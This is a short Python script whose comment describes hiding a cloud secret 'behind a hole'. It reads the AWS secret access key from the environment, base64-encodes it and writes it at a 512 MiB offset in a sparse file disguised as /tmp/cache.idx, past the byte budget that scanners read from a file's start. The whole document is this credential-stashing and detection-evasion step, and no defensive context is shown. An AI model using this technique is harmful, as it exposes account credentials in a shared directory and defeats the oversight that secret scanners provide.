# Leave a cloud secret behind a hole: a sparse file of 512 MiB that holds
# nothing but the secret, base64-encoded, at its end (past any budget of
# bytes read from the file's start), in /tmp.
import base64, os

secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
with open("/tmp/cache.idx", "wb") as f:
    f.seek(512 << 20)
    f.write(base64.b64encode(secret))
